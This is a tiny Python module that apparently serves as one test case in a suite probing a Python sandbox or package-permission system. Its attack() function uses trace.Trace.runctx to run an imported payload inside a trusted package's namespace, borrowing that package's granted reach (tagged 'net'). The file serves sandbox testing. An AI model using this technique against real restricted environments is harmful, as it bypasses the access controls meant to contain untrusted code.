"""bdb runs a text in a granted package's names."""
CATEGORY = "borrowed"
REACH = "net"

from . import payload


def attack():
    import good
    import trace
    trace.Trace(trace=False, count=False).runctx(
        payload.SOURCE, vars(good), vars(good))
